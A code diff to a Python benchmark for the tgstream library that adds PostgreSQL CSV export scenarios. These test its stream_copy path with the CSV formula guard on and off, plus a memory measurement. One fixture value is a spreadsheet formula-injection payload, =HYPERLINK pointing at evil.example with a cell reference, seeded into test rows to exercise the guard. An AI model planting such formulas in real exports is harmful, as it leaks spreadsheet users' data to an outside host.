@@ -17,10 +17,20 @@ a table of N rows (default 200 000) of ``(id, name, email, created_at)``:
     T-csv      tgstream csv, return stream_query(...) (formula guard on)
     T-csv-yield
                tgstream csv, the natural generator
+    K-f        K on items_f: the same rows, one name in 1 000 a formula
+               (=HYPERLINK(...)) -- the baseline of stream_copy
+    T-copy     tgstream csv, return stream_copy(session, select(items_f)),
+               formula guard on
+    T-copy-noguard
+               T-copy with formula_guard=False
     (-adapter: the app's json renderer has a datetime adapter)
 
 Scenarios alternate within each round (the order rotates every round); the
 report shows medians and ratios to R (json) and K (csv).
+
+With ``--copy-memory``, the peak RSS growth of a process streaming
+stream_copy of 200 000 and 2 000 000 generated rows (generate_series, the
+same formula-like names) is measured in child processes.
 
 Usage::
 
@@ -40,6 +50,8 @@ import sys
 import time
 
 HERE = os.path.dirname(os.path.abspath(__file__))
+#: the tables' schema, one per number of rows (set by main): runs of
+#: different sizes on one server never refill each other's tables
 SCHEMA = 'tgstream_bench'
 COLUMNS = 'id, name, email, created_at'
 
@@ -53,7 +65,16 @@ SCENARIOS = {
     'T-json-yield-adapter': 'T-json-yield with the datetime adapter',
     'T-csv': 'tgstream csv, return stream_query(...) (formula guard on)',
     'T-csv-yield': 'tgstream csv, generator yielding rows (yield_per=1000)',
+    'R-yield': 'raw WSGI over the T-json-yield generator (SQLAlchemy Rows of yield_per=1000), '
+               'orjson per 1 000 rows: the limit of the natural generator',
+    'K-f': 'K on items_f (one name in 1 000 is =HYPERLINK(...))',
+    'T-copy': 'tgstream csv, return stream_copy(session, select(items_f)) (formula guard on)',
+    'T-copy-noguard': 'T-copy with formula_guard=False',
 }
+
+#: the formula-like name of one row in 1 000 of items_f
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
 
 
 def ensure_table(url: str, rows: int) -> None:
@@ -74,6 +95,15 @@ def ensure_table(url: str, rows: int) -> None:
                 "FROM generate_series(1, %d) AS n" % (SCHEMA, rows)
             )
             conn.execute('VACUUM ANALYZE %s.items' % SCHEMA)
+        conn.execute(
+            'CREATE TABLE IF NOT EXISTS %s.items_f (LIKE %s.items INCLUDING ALL)' % (SCHEMA, SCHEMA))
+        have = conn.execute('SELECT count(*) FROM %s.items_f' % SCHEMA).fetchone()[0]
+        if have != rows:
+            conn.execute('TRUNCATE %s.items_f' % SCHEMA)
+            conn.execute(
+                'INSERT INTO %s.items_f SELECT id, CASE WHEN mod(id, 1000) = 0 THEN %%s ELSE name '
+                'END, email, created_at FROM %s.items' % (SCHEMA, SCHEMA), (FORMULA,))
+            conn.execute('VACUUM ANALYZE %s.items_f' % SCHEMA)
 
 
 # -- the apps -----------------------------------------------------------------------
@@ -112,7 +142,42 @@ def app_r(url: str):
     return app
 
 
-def app_k(url: str):
+def app_r_yield(url: str):
+    import orjson
+    from sqlalchemy import Column, DateTime, Integer, MetaData, String, Table, create_engine, select
+    from sqlalchemy.orm import Session
+
+    engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
+    items = Table('items', MetaData(schema=SCHEMA), Column('id', Integer, primary_key=True),
+                  Column('name', String), Column('email', String),
+                  Column('created_at', DateTime))
+    statement = select(items).order_by(items.c.id).execution_options(yield_per=1000)
+
+    def app(environ, start_response):
+        def body():
+            with Session(engine) as session:
+                rows = []
+                prefix = b'['
+                result = session.execute(statement)
+                keys = [str(key) for key in result.keys()]
+                for row in result:  # the natural generator's loop
+                    rows.append(dict(zip(keys, row)))
+                    if len(rows) == 1000:
+                        yield prefix + orjson.dumps(rows)[1:-1]
+                        prefix = b','
+                        rows = []
+                if rows:
+                    yield prefix + orjson.dumps(rows)[1:-1]
+                    prefix = b','
+                yield b']' if prefix == b',' else b'[]'
+
+        start_response('200 OK', [('Content-Type', 'application/json')])
+        return body()
+
+    return app
+
+
+def app_k(url: str, table: str = 'items'):
     import psycopg
 
     def app(environ, start_response):
@@ -122,8 +187,8 @@ def app_k(url: str):
             try:
                 with conn.cursor() as cursor:
                     with cursor.copy(
-                        'COPY (SELECT %s FROM %s.items ORDER BY id) TO STDOUT '
-                        'WITH (FORMAT csv, HEADER)' % (COLUMNS, SCHEMA)
+                        'COPY (SELECT %s FROM %s.%s ORDER BY id) TO STDOUT '
+                        'WITH (FORMAT csv, HEADER)' % (COLUMNS, SCHEMA, table)
                     ) as copy:
                         for block in copy:
                             yield bytes(block)
@@ -143,7 +208,11 @@ def app_t(url: str, variant: str):
     import tgstream
 
     engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
-    items = Table('items', MetaData(schema=SCHEMA), Column('id', Integer, primary_key=True),
+    options = None
+    if variant.startswith('copy'):
+        options = {'formula_guard': not variant.endswith('-noguard')}
+    items = Table('items_f' if options else 'items', MetaData(schema=SCHEMA),
+                  Column('id', Integer, primary_key=True),
                   Column('name', String), Column('email', String),
                   Column('created_at', DateTime))
     statement = select(items).order_by(items.c.id)
@@ -163,9 +232,16 @@ def app_t(url: str, variant: str):
     def result(request):
         return request.dbsession.execute(statement.execution_options(yield_per=1000))
 
+    def copied(request):
+        return tgstream.stream_copy(request.dbsession, statement)
+
+    config.add_route('items', '/items')
+    if options is not None:
+        config.add_view(copied, route_name='items', renderer='csv', stream=True,
+                        stream_options=options)
+        return config.make_wsgi_app()
     kind, _, how = variant.partition('-')
     view = {'': returned, 'yield': generator, 'result': result}[how]
-    config.add_route('items', '/items')
     config.add_view(view, route_name='items', renderer=kind, stream=True)
     return config.make_wsgi_app()
 
@@ -175,6 +251,10 @@ def make_app(name: str, url: str):
         return app_r(url)
     if name == 'K':
         return app_k(url)
+    if name == 'R-yield':
+        return app_r_yield(url)
+    if name == 'K-f':
+        return app_k(url, 'items_f')
     return app_t(url, name[2:])
 
 
@@ -208,7 +288,11 @@ def call(app) -> tuple[float, float, int, bytes]:
 
 
 def check(name: str, head: bytes) -> None:
-    if name == 'K' or name.startswith('T-csv'):
+    if name.startswith('T-copy') and not name.endswith('-noguard'):
+        # the guard quotes text cells (FORCE_QUOTE): PostgreSQL cannot quote a row
+        assert head.startswith(b'id,name,email,created_at\n1,"user 1","user1@example.com",'
+                               b'2024-01-01 00:00:01'), (name, head)
+    elif name.startswith(('K', 'T-csv', 'T-copy')):
         expected = b'id,name,email,created_at'
         assert head.startswith(expected), (name, head)
         assert b'1,user 1,user1@example.com,2024-01-01 00:00:01' in head, (name, head)
@@ -265,14 +349,17 @@ def report(results: dict, args, took: float, load: str) -> str:
             median(name, 'ttfb_ms')))
     checks = []
     for name, base, label, goal in (
-        ('T-json', r, 'R', 0.9), ('T-json-yield', r, 'R', 0.6), ('T-csv', k, 'K', 0.5),
+        ('T-json', r, 'R', 0.9), ('T-json-yield', r, 'R', 0.7), ('T-csv', k, 'K', 0.5),
+        ('T-copy', median('K-f'), 'K-f', 0.9), ('T-json-yield', median('R-yield'), 'R-yield', 0.9),
     ):
         value = median(name)
         if value and base:
             checks.append('- %s / %s: %.2f× (target ≥ %.2f×) %s' % (
                 name, label, value / base, goal, '✅' if value / base >= goal else '❌'))
     if checks:
-        lines += ['', '## Targets (issue 14)', ''] + checks
+        lines += ['', '## Targets (issues 14 and 27)', ''] + checks
+    if getattr(args, 'memory', None):
+        lines += ['', '## stream_copy memory (issue 27)', ''] + args.memory
     lines += ['', '## Notes', '', NOTES.strip()]
     return '\n'.join(lines) + '\n'
 
@@ -301,7 +388,77 @@ NOTES = """
   per-row iteration (a Row built per row); their items are encoded in runs
   like batches. T-json-result (a returned yield_per Result of a Core
   statement) takes stream_query's tuple path.
+- T-copy (issue 27): PostgreSQL writes the CSV (stream_copy); tgstream
+  copies psycopg's per-row messages into 64 KiB writes. T-copy-noguard
+  is that alone: within noise of K-f. The gap of T-copy is the guard's
+  work in the server -- per text cell a CASE, ascii() and one regular
+  expression search (the rest of the rule only for the cells it changes),
+  and a projection the bare COPY does not need: on the COPY alone (TO
+  '/dev/null', no client) about 2-3x K-f's server time. On this shared
+  2-core machine the server competes with the client for the cores, so
+  that work shows almost one for one; with a free core for PostgreSQL it
+  overlaps the client's reading. The guard's subqueries inflate the
+  planner's estimate: the COPY runs with jit and parallel plans off
+  (compiling it took about a second; a parallel sort 60 ms before the
+  first row). Memory: flat from 200 000 to 2 000 000 rows (--copy-memory).
+- R-yield is the natural generator's own loop with nothing around it
+  (SQLAlchemy Rows of a yield_per result, fetched through SQLAlchemy's
+  buffered server-side cursor strategy: one Python-level fetchone and a
+  Row per row, about 0.8 us/row more than R's fetchmany), with R's orjson
+  batches: the limit of any framework serving that generator.
+  T-json-yield / R-yield is tgstream's own cost (the per-item pull of
+  the coalescer and the writes after each cursor round trip).
 """
+
+
+def copy_memory_child(url: str, rows: int) -> None:
+    """(In a child process) print the peak RSS growth, in KiB, of one
+    stream_copy of ``rows`` generated rows, and its rows/s."""
+    from bench_apps import pyramid_config
+    from sqlalchemy import create_engine, text
+
+    import tgstream
+
+    engine = create_engine(url.replace('postgresql://', 'postgresql+psycopg://', 1))
+    statement = text(
+        "SELECT n AS id, CASE WHEN n % 1000 = 0 THEN :formula ELSE 'user ' || n END AS name, "
+        "'user' || n || '@example.com' AS email, "
+        "timestamp '2024-01-01' + n * interval '1 second' AS created_at "
+        "FROM generate_series(1, :rows) AS n").bindparams(formula=FORMULA, rows=rows)
+    config = pyramid_config(engine)
+    config.include('tgstream')
+    config.add_route('items', '/items')
+    config.add_view(lambda request: tgstream.stream_copy(request.dbsession, statement),
+                    route_name='items', renderer='csv', stream=True)
+    app = config.make_wsgi_app()
+
+    def status(key):
+        for line in open('/proc/self/status'):
+            if line.startswith(key):
+                return int(line.split()[1])
+
+    before = status('VmRSS:')
+    elapsed, _, size, _ = call(app)
+    print(status('VmHWM:') - before, rows / elapsed, size)
+
+
+def copy_memory(url: str, sizes=(200_000, 2_000_000)) -> list:
+    import subprocess
+
+    found = {}
+    for rows in sizes:
+        out = subprocess.run(
+            [sys.executable, __file__, '--url', url, '--memory-child', str(rows)],
+            check=True, capture_output=True, text=True, cwd=HERE).stdout.split()
+        found[rows] = (int(out[0]) / 1024, float(out[1]), int(out[2]))
+    lines = ['Peak RSS growth of the process (VmHWM minus VmRSS before the request) '
+             'during one stream_copy of N generated rows (guard on), in a child process:', '']
+    lines += ['- N = %d: +%.1f MiB (%.0f rows/s, %d bytes)' % ((rows,) + found[rows])
+              for rows in sizes]
+    growth = found[sizes[-1]][0] - found[sizes[0]][0]
+    lines.append('- growth %d → %d rows: %+.1f MiB (target: flat) %s' % (
+        sizes[0], sizes[-1], growth, '✅' if growth < 5 else '❌'))
+    return lines
 
 
 SECTION = '# PostgreSQL export benchmark'
@@ -340,7 +497,14 @@ def main(argv=None) -> int:
     parser.add_argument('--output', default=os.path.join(HERE, 'RESULTS.md'),
                         help='the report replaces its own section of this file')
     parser.add_argument('--no-write', action='store_true')
+    parser.add_argument('--copy-memory', action='store_true',
+                        help='also measure stream_copy memory at 200 000 and 2 000 000 rows')
+    parser.add_argument('--memory-child', type=int, help=argparse.SUPPRESS)
     args = parser.parse_args(argv)
+    if args.memory_child:
+        sys.path.insert(0, HERE)
+        copy_memory_child(args.url, args.memory_child)
+        return 0
     args.argv = list(argv if argv is not None else sys.argv[1:])
     if args.quick:
         args.rows, args.rounds, args.no_write = 20_000, 2, True
@@ -354,8 +518,11 @@ def main(argv=None) -> int:
 
     load = ' '.join(open('/proc/loadavg').read().split()[:3])
     started = time.monotonic()
+    global SCHEMA
+    SCHEMA = 'tgstream_bench_%d' % args.rows
     ensure_table(args.url, args.rows)
     results = run(names, args.url, args.rows, args.rounds, log)
+    args.memory = copy_memory(args.url) if args.copy_memory else None
     text = report(results, args, time.monotonic() - started, load)
     print(text)
     if not args.no_write:
